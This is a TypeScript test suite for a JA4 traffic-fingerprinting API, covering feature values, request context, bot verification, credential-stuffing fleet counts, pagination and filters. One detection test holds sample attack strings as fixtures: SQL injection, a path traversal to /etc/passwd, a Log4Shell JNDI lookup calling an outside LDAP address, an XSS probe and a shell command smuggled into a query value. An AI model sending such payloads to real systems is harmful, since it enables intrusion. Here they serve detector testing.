import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { features } from '@ja4-platform/common';
import type { LoggedRequest } from '../requests/requests.types.js';
import { startHarness, skipWithoutServices, type Harness } from '../testing/harness.js';
import { insertRequests, loggedRequest, withoutHandshake } from '../testing/logged-requests.js';
import { featureExpressions } from './feature-sql.js';
import { featureCases } from '../testing/feature-cases.js';
import type { FeaturePage, FeatureRow } from './features.types.js';

const range = 'from=2026-11-22T00:00:00Z&to=2026-11-23T00:00:00Z';

/** Each case has an address and a host of its own, so that no case is part of another's baseline. */
const cases = featureCases
  .flatMap(([feature, ...examples]) =>
    examples.map((example, index) => ({ feature, ...example, host: `${feature}-${index}.example` })),
  )
  .map((example, index) => ({ ...example, address: `198.18.0.${index}` }));

function requestsOf(
  host: string,
  requests: readonly Partial<LoggedRequest>[],
  address = '203.0.113.7',
): LoggedRequest[] {
  const usual = { host, tls_sni: host, src_ip: address, client_ip: address };
  return requests.map((request, index) =>
    loggedRequest(index, { batch_id: crypto.randomUUID(), ...usual, ...request }),
  );
}

describe('features', { skip: skipWithoutServices }, () => {
  let api: Harness;
  before(async () => {
    api = await startHarness();
  });
  after(() => api.close());

  const list = async (query: string): Promise<FeaturePage> => {
    const response = await api.call(`/v1/features?${range}&${query}`);
    assert.equal(response.status, 200, await response.clone().text());
    return (await response.json()) as FeaturePage;
  };
  const row = async (host: string): Promise<FeatureRow> => {
    const { items } = await list(`host=${host}&limit=5000`);
    assert.ok(items[0], host);
    return items.at(-1) as FeatureRow;
  };

  it('200 the list of features, and no rows from an empty database', async () => {
    const page = await list('');
    assert.deepEqual(page, {
      feature_version: 5,
      features: features.map(({ name }) => name),
      items: [],
      next_cursor: null,
    });
  });

  it('every feature has an expression and a case, and no other has', () => {
    const names = features.map(({ name }) => name).sort();
    assert.deepEqual(Object.keys(featureExpressions).sort(), names);
    assert.deepEqual(featureCases.map(([name]) => name).sort(), names);
  });

  it('200 each feature says what its description says', async () => {
    await insertRequests(
      api.context.store,
      cases.flatMap(({ host, requests, address }) => requestsOf(host, requests, address)),
    );
    const { items } = await list('limit=5000');
    for (const { feature, host, expected } of cases) {
      const values = items.findLast((item) => item.host === host)?.values ?? [];
      assert.equal(values.length, features.length, host);
      const value = values[features.findIndex(({ name }) => name === feature)];
      const message = `${host}: ${value} is not ${expected}`;
      if (expected === null || value === null || value === undefined) assert.equal(value, expected, message);
      else assert.ok(Math.abs(value - expected) < 1e-6, message);
      assert.ok(values.every((each) => each === null || Number.isFinite(each)));
    }
  });

  it('200 rows without a host are compared with one another', async () => {
    await insertRequests(api.context.store, requestsOf('', [{}, {}], '198.51.100.77'));
    const { items } = await list('client_ip=198.51.100.77');
    const rarity = features.findIndex(({ name }) => name === 'ja4_rarity');
    assert.deepEqual(
      items.map(({ host, requests, values }) => [host, requests, values[rarity]]),
      [['', 2, 0]],
    );
  });

  it('200 the context has what evidence rules need', async () => {
    const host = 'context.example';
    const scan = [
      { path: '/.env', status: 404, client_headers: 'Host,User-Agent', header_order_hash: 'plain' },
      {
        path: '/wp-login.php',
        method: 'POST',
        status: 403,
        client_headers: 'Host',
        header_order_hash: 'bare',
        user_agent: 'curl/8',
      },
      { path: '/', status: 200, ja4_r: 't13d_raw', time: '2026-11-22T14:59:59.999999Z' },
    ];
    await insertRequests(api.context.store, requestsOf(host, scan));
    const { context, correlated, requests, client_ip, hour } = await row(host);
    assert.deepEqual(
      { correlated, requests, client_ip, hour },
      {
        correlated: true,
        requests: 3,
        client_ip: '203.0.113.7',
        hour: '2026-11-22T14:00:00Z',
      },
    );
    assert.deepEqual(context, {
      user_agents: ['Mozilla/5.0 (X11; Linux x86_64) Chrome/142.0.0.0 Safari/537.36', 'curl/8'],
      sample_paths: ['/.env', '/wp-login.php', '/'],
      sensitive_requests: 2,
      login_posts: 1,
      login_posts_refused: 1,
      not_found: 1,
      without_accept_language: 3,
      without_sec_fetch: 2,
      header_orders: ['Host', 'Host,User-Agent', 'Host,User-Agent,Accept-Encoding'],
      http_versions: ['1.1'],
      ja4_r: 't13d_raw',
      tls_alpn: ['h2', 'http/1.1'],
      h2_fingerprint: '',
      payload_requests: 0,
      verified_bot: null,
      false_bot: null,
      server_names: [],
      ttl: 64,
      tcp_options: '2-4-8-1-3',
      busiest_ten_seconds: 2,
      address_requests: 3,
      address_failed: 2,
      login_fleet_addresses: 0,
      login_fleet_posts: 0,
      login_fleet_refused: 0,
      first_seen: '2026-11-22T14:03:21.482913Z',
      last_seen: '2026-11-22T14:59:59.999999Z',
    });
  });

  it('200 the context counts requests that carry an attack, and shows them with their query', async () => {
    const host = 'attacked.example';
    const attacks = [
      { path: '/item', query: "id=1'%20OR%20'1'%3D'1" },
      { path: '/item', query: 'id=1+UNION+ALL+SELECT+null' },
      { path: '/static/..%2f..%2fetc/passwd' },
      { path: '/', user_agent: '${jndi:ldap://203.0.113.9/a}' },
      { path: '/search', query: 'q=%3Cscript%3Ealert(1)' },
      { path: '/run', query: 'cmd=;cat+/etc/hosts' },
    ];
    const honest = [
      'q=rock+%27n%27+roll',
      'fields=name|id|title',
      'onload=ready&render=explicit',
      'return=https%3A%2F%2Fshop.example%2Fcart',
      'q=select+a+union',
      "q=it's and so on=1",
    ].map((query) => ({ path: '/search', query }));
    await insertRequests(api.context.store, requestsOf(host, [...attacks, ...honest]));
    const { context } = await row(host);
    assert.equal(context.payload_requests, attacks.length);
    assert.ok(context.sample_paths.includes('/item?id=1+UNION+ALL+SELECT+null'), context.sample_paths.join(' '));
    assert.ok(context.sample_paths.every((path) => !path.includes('select+a')));
  });

  it('200 the context tells crawlers by their published addresses, and how HTTP/2 was opened', async () => {
    const headers = { 'content-type': 'application/octet-stream' };
    const body = '192.0.2.0/24\n2001:db8:66::/48\n';
    const imported = await api.call('/v1/reference-lists/googlebot?kind=bots', { method: 'PUT', headers, body });
    assert.equal(imported.status, 200, await imported.text());
    const user_agent = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
    const h2_fingerprint = '1:65536|0|0|m,a,s,p';
    for (const [host, address, verified_bot, false_bot] of [
      ['true-bot.example', '192.0.2.77', 'googlebot', null],
      ['true-bot-6.example', '2001:db8:66::1', 'googlebot', null],
      ['false-bot.example', '198.51.100.77', null, 'googlebot'],
    ] as const) {
      await insertRequests(api.context.store, requestsOf(host, [{ user_agent, h2_fingerprint }], address));
      const { context } = await row(host);
      assert.deepEqual([context.verified_bot, context.false_bot], [verified_bot, false_bot], host);
      assert.equal(context.h2_fingerprint, h2_fingerprint);
    }
  });

  it('200 the context of each member of a fleet that tries logins tells how many there are', async () => {
    const host = 'stuffed.example';
    const attempt = { method: 'POST', path: '/login', ja4: 'stuffing', header_order_hash: 'of-a-script' };
    const attempts = Array.from({ length: 12 }, (_, at) => {
      const address = `198.51.100.${at}`;
      return { ...attempt, src_ip: address, client_ip: address, status: at === 0 ? 302 : 401 };
    });
    // People whose browser is the one that the script copies, one of whom logs in.
    const others = Array.from({ length: 30 }, (_, at) => {
      const login = at === 0 ? { method: 'POST', path: '/login', status: 302 } : { path: '/' };
      return { ...attempt, method: 'GET', status: 200, ...login };
    });
    await insertRequests(api.context.store, requestsOf(host, [...attempts, ...others]));
    for (const { context, client_ip } of (await list(`host=${host}`)).items) {
      const { login_fleet_addresses, login_fleet_posts, login_fleet_refused } = context;
      assert.deepEqual([login_fleet_addresses, login_fleet_posts, login_fleet_refused], [12, 12, 11], client_ip);
    }
  });

  it('200 behind a proxy no TLS fact is a fact of the client', async () => {
    const host = 'proxied.example';
    await insertRequests(api.context.store, requestsOf(host, [{ client_ip: '198.51.100.1', ja4_r: 'raw' }]));
    const { ja4, correlated, context } = await row(host);
    assert.deepEqual(
      { ja4, correlated, ja4_r: context.ja4_r, tls_alpn: context.tls_alpn },
      {
        ja4: '',
        correlated: false,
        ja4_r: null,
        tls_alpn: [],
      },
    );
  });

  it('200 pages follow each other without a gap or a double', async () => {
    const whole = await list('limit=5000');
    const seen: FeatureRow[] = [];
    let cursor = '';
    do {
      const page = await list(`limit=40${cursor}`);
      seen.push(...page.items);
      cursor = page.next_cursor === null ? '' : `&cursor=${page.next_cursor}`;
    } while (cursor);
    assert.deepEqual(seen, whole.items);
    assert.ok(seen.length >= cases.length);
  });

  it('200 one in so many rows are the same ones each time, page by page, and know of all others', async () => {
    const whole = (await list('limit=5000')).items;
    let wider = whole;
    for (const oneIn of [2, 4, 8]) {
      const { items } = await list(`limit=5000&one_in=${oneIn}`);
      const names = new Set(items.map(({ hour, host, client_ip, ja4 }) => [hour, host, client_ip, ja4].join()));
      const same = wider.filter(({ hour, host, client_ip, ja4 }) => names.has([hour, host, client_ip, ja4].join()));
      assert.deepEqual(items, same);
      const expected = whole.length / oneIn;
      assert.ok(Math.abs(items.length - expected) < 4 * Math.sqrt(expected), `${items.length} of ${whole.length}`);
      wider = items;
    }
    const first = await list('limit=5&one_in=4');
    const rest = await list(`limit=5000&one_in=4&cursor=${first.next_cursor}`);
    assert.deepEqual([...first.items, ...rest.items], (await list('limit=5000&one_in=4')).items);
    const weeks = 'from=2026-11-09T00:00:00Z&to=2026-11-23T00:00:00Z';
    const found: FeatureRow[] = [];
    let days = 0;
    for (let cursor: string | null = ''; cursor !== null; days++) {
      const response = await api.call(
        `/v1/features?${weeks}&limit=5000&one_in=4&cursor=${cursor}`.replace(/&cursor=$/, ''),
      );
      const page = (await response.json()) as FeaturePage;
      found.push(...page.items);
      cursor = page.next_cursor;
    }
    assert.deepEqual([days, found], [14, (await list('limit=5000&one_in=4')).items]);
    const exported = await (await api.call(`/v1/features/export?${range}&one_in=4`)).text();
    assert.equal(exported.trimEnd().split('\n').length - 1, first.items.length + rest.items.length);
  });

  it('200 the export is the list of features, then all rows', async () => {
    const response = await api.call(`/v1/features/export?${range}`);
    assert.equal(response.status, 200);
    const [head, ...rows] = (await response.text())
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as unknown);
    const { items, next_cursor, ...described } = await list('limit=5000');
    assert.deepEqual([head, rows], [described, items]);
  });

  it('200 filters', async () => {
    await insertRequests(api.context.store, requestsOf('plain.example', [withoutHandshake]));
    assert.equal((await list('client_ip=198.51.100.0/24&host=proxied.example')).items.length, 1);
    for (const ja4 of ['', 'null']) assert.equal((await list(`host=plain.example&ja4=${ja4}`)).items.length, 1);
    assert.equal((await list('host=plain.example&ja4=!null')).items.length, 0);
    assert.equal((await list('host=plain.example&min_requests=2')).items.length, 0);
  });

  it('4xx names the parameter that is wrong', async () => {
    for (const [query, status] of [
      ['limit=5001', 422],
      ['hour=1', 422],
      ['cursor=x', 400],
      ['min_requests=0', 422],
      ['min_requests=1000000000000000000000', 422],
      ['one_in=0', 422],
    ] as const) {
      const response = await api.call(`/v1/features?${query}`);
      assert.equal(response.status, status, query);
      assert.ok((await response.text()).includes(query.split('=')[0] ?? ''));
    }
  });
});
